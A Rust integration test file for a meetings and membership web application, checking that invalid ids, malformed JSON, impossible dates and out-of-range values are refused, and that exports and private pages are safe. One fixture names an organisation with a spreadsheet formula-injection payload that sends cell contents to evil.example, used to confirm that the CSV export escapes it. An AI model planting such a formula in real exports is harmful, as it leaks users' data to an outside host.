//! Hostile and careless input gets a clear 4xx and changes nothing (issue 12's first part):
//! ids of nothing, spreadsheet formulas in exports, unreadable API bodies, addresses that are
//! not ids; private pages are not cached and an https deployment asks for HTTPS only.

use actix_web::http::StatusCode;
use diesel::prelude::*;
use roundtable::auth::tokens;
use roundtable::db::schema::{attendance, audit_events};
use roundtable::meetings::store;
use roundtable::membership::organisations::{self, OrganisationInput};
use roundtable::membership::rules::Status;

use crate::common::{ADMIN_EMAIL, ADMIN_PASSWORD, TestApp, fixtures};
use crate::meetings::coalition;
use crate::on_each_backend;

#[actix_web::test]
async fn ids_of_nothing_are_refused_not_database_errors() {
    on_each_backend!(|backend| async {
        let app = TestApp::new(&backend);
        let (admin, _) = coalition(&app);
        let m = app
            .with_conn(|c| {
                store::create(
                    c,
                    &admin,
                    &fixtures::meeting("Plenary", fixtures::date(2026, 3, 10)),
                )
            })
            .expect("meeting");
        let applicant = app
            .with_conn(|c| {
                organisations::create(
                    c,
                    &admin,
                    &OrganisationInput {
                        name: "Hopeful".into(),
                        sector_id: crate::membership::sector_id(&app, "NGO"),
                        ..OrganisationInput::default()
                    },
                    Status::Applicant,
                    fixtures::date(2026, 1, 1),
                    "applied",
                    None,
                )
            })
            .expect("applicant")
            .0;
        let mut secretariat = app.client().await;
        secretariat.sign_in(ADMIN_EMAIL, ADMIN_PASSWORD).await;
        let page = format!("/meetings/{}", m.id);
        secretariat.get(&page).await;
        for organisation in ["99999".to_owned(), applicant.id.to_string()] {
            let refused = secretariat
                .post_form(
                    &format!("{page}/attendance"),
                    &[
                        (&format!("status-{organisation}"), "present"),
                        (&format!("represented_by-{organisation}"), "Someone"),
                    ],
                )
                .await;
            assert_eq!(
                refused.status,
                StatusCode::UNPROCESSABLE_ENTITY,
                "{organisation}"
            );
        }
        let token = app
            .with_conn(|c| tokens::create_api_token(c, &admin.person, "tool"))
            .expect("token");
        let mut api = app.client().await;
        let json = api
            .api_post(
                &format!("/api/v1/meetings/{}/attendance", m.id),
                &token,
                &serde_json::json!({ "organisation_id": 99999, "status": "present", "represented_by": "X" }),
            )
            .await;
        assert_eq!(json.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert_eq!(json.json()["error"]["code"], "invalid");
        let recorded: i64 =
            app.with_conn(|c| attendance::table.count().get_result(c).expect("count"));
        assert_eq!(recorded, 0);

        // Opting out an organisation that does not exist: 404, and nothing in the record.
        secretariat.get("/secretariat").await;
        let before: i64 = app.with_conn(|c| audit_events::table.count().get_result(c).expect("n"));
        let none = secretariat
            .post_form("/secretariat/opt-out/99999", &[("opt_out", "yes")])
            .await;
        assert_eq!(none.status, StatusCode::NOT_FOUND);
        let after: i64 = app.with_conn(|c| audit_events::table.count().get_result(c).expect("n"));
        assert_eq!(before, after);

        // An address whose id is not a number is a page not found, in the site's frame.
        let words = secretariat.get("/statements/new").await;
        assert_eq!(words.status, StatusCode::NOT_FOUND);
        assert!(!words.body.contains("can not parse"));
    })
}

#[actix_web::test]
async fn the_api_answers_unreadable_input_in_its_json_shape() {
    on_each_backend!(|backend| async {
        let app = TestApp::new(&backend);
        let admin = app.bootstrap();
        let token = app
            .with_conn(|c| tokens::create_api_token(c, &admin, "tool"))
            .expect("token");
        let mut api = app.client().await;
        let bad_json = api
            .send(
                actix_web::test::TestRequest::post()
                    .uri("/api/v1/organisations")
                    .insert_header(("Authorization", format!("Bearer {token}")))
                    .insert_header(("Content-Type", "application/json"))
                    .set_payload("{ not json"),
            )
            .await;
        assert_eq!(bad_json.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert_eq!(bad_json.json()["error"]["code"], "invalid");
        let bad_date = api.api_get("/api/v1/meetings?from=someday", &token).await;
        assert_eq!(bad_date.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert_eq!(bad_date.json()["error"]["code"], "invalid");
        let bad_id = api.api_get("/api/v1/meetings/seven", &token).await;
        assert_eq!(bad_id.status, StatusCode::NOT_FOUND);
        assert_eq!(bad_id.json()["error"]["code"], "not_found");
    })
}

#[actix_web::test]
async fn exports_hold_no_formula_and_private_pages_are_not_cached() {
    on_each_backend!(|backend| async {
        let app = TestApp::with_settings(&backend, |s| {
            s.base_url = "https://coalition.example".into();
        });
        let admin = crate::membership::admin_actor(&app, app.bootstrap());
        app.with_conn(|c| {
            organisations::create(
                c,
                &admin,
                &OrganisationInput {
                    name: "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")".into(),
                    sector_id: crate::membership::sector_id(&app, "NGO"),
                    ..OrganisationInput::default()
                },
                Status::Associate,
                fixtures::date(2026, 1, 1),
                "founding",
                None,
            )
        })
        .expect("organisation");
        let mut secretariat = app.client().await;
        secretariat.sign_in(ADMIN_EMAIL, ADMIN_PASSWORD).await;
        let csv = secretariat.get("/organisations/export.csv").await;
        assert_eq!(csv.status, StatusCode::OK);
        assert!(csv.body.contains("'=HYPERLINK"), "{}", csv.body);
        assert!(!csv.body.contains(",=HYPERLINK") && !csv.body.starts_with("=HYPERLINK"));
        assert_eq!(csv.header("cache-control"), Some("no-store"));
        let account = secretariat.get("/account").await;
        assert_eq!(account.header("cache-control"), Some("no-store"));
        assert!(
            account
                .header("strict-transport-security")
                .is_some_and(|h| h.starts_with("max-age=")),
            "HTTPS only, with an https BASE_URL"
        );
    })
}

/// A meeting in the hour the clocks skip is refused with the reason, not a database error.
#[actix_web::test]
async fn a_meeting_in_the_hour_the_clocks_skip_is_explained() {
    on_each_backend!(|backend| async {
        let app = TestApp::new(&backend);
        let (admin, _) = coalition(&app);
        for (zone, date, start, end) in [
            (
                "Europe/Brussels",
                fixtures::date(2027, 3, 28),
                fixtures::at(2, 0),
                fixtures::at(3, 0),
            ),
            (
                "America/New_York",
                fixtures::date(2027, 3, 14),
                fixtures::at(2, 30),
                fixtures::at(3, 30),
            ),
        ] {
            let mut input = fixtures::meeting("Night plenary", date);
            input.time_zone = Some(zone.into());
            input.start = start;
            input.end = end;
            let refused = app.with_conn(|c| store::create(c, &admin, &input));
            match refused {
                Err(roundtable::error::Error::InvalidFields(f)) => {
                    assert!(f["start"][0].contains("skip"), "{f:?}");
                }
                other => panic!("{zone}: expected a refusal beside the start, got {other:?}"),
            }
        }
        // In autumn 02:30 happens twice in Brussels: which one is asked, not guessed.
        let mut twice = fixtures::meeting("Night plenary", fixtures::date(2027, 10, 31));
        twice.time_zone = Some("Europe/Brussels".into());
        twice.start = fixtures::at(2, 30);
        twice.end = fixtures::at(4, 0);
        match app.with_conn(|c| store::create(c, &admin, &twice)) {
            Err(roundtable::error::Error::InvalidFields(f)) => {
                assert!(f["start"][0].contains("happens twice"), "{f:?}");
            }
            other => panic!("expected a refusal beside the start, got {other:?}"),
        }
        // The hour after the gap exists: 03:00-04:00 in Brussels that night is a meeting.
        let mut fine = fixtures::meeting("Early plenary", fixtures::date(2027, 3, 28));
        fine.time_zone = Some("Europe/Brussels".into());
        fine.start = fixtures::at(3, 0);
        fine.end = fixtures::at(4, 0);
        app.with_conn(|c| store::create(c, &admin, &fine))
            .expect("03:00 exists");
    })
}

/// Numbers and dates outside what a record can carry are refused with a message: a quorum
/// of -5% or 1000%, a meeting on 0001-01-01, fee years 0 and 99999, a suspension in 1900.
#[actix_web::test]
async fn numbers_and_dates_out_of_range_are_refused() {
    on_each_backend!(|backend| async {
        let app = TestApp::new(&backend);
        let (admin, orgs) = coalition(&app);
        let settings = app
            .with_conn(roundtable::meetings::store::settings)
            .expect("settings");
        for quorum in [-5, 0, 1000] {
            let mut s = settings.clone();
            s.quorum_percent = quorum;
            let refused = app.with_conn(|c| store::save_settings(c, &admin, &s));
            assert!(
                matches!(refused, Err(roundtable::error::Error::InvalidFields(_))),
                "quorum {quorum}: {refused:?}"
            );
        }
        let ancient = fixtures::meeting("Ancient", fixtures::date(1, 1, 1));
        assert!(
            app.with_conn(|c| store::create(c, &admin, &ancient))
                .is_err()
        );
        for year in [0, 99999] {
            let refused = app.with_conn(|c| {
                roundtable::membership::fees::set_tier(c, &admin, year, "NGO", 100, "EUR")
            });
            assert!(refused.is_err(), "fee year {year}");
            let refused =
                app.with_conn(|c| roundtable::membership::fees::generate_ledger(c, &admin, year));
            assert!(refused.is_err(), "ledger year {year}");
        }
        let suspended = app.with_conn(|c| {
            organisations::change_status(
                c,
                &admin,
                orgs[0],
                Status::Suspended,
                fixtures::date(1900, 1, 1),
                "a typo",
            )
        });
        assert!(suspended.is_err());
        let org = app
            .with_conn(|c| organisations::get(c, orgs[0]))
            .expect("organisation");
        assert_eq!(org.status, "full", "nothing changed");
        let meetings: i64 = app.with_conn(|c| {
            roundtable::db::schema::meetings::table
                .count()
                .get_result(c)
                .expect("count")
        });
        assert_eq!(meetings, 0);
    })
}
